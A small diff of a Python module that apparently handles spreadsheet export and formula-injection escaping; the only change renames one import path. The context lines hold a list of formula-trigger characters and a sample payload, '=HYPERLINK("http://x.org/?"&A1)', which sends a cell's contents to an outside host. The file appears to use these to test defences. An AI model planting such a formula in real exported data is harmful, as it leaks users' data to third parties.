@@ -19,7 +19,7 @@ from opera.data.spreadsheets import FORMULA as START
 from opera.data.spreadsheets import with_apostrophes, without_apostrophe_sql
 from opera.labels.review_page import write_review
 from opera.run_folder.folder import RunWriter
-from opera.training_pairs.export_inputs import write_table
+from opera.training.export_inputs import write_table
 
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")
 FORMULA = '=HYPERLINK("http://x.org/?"&A1)'
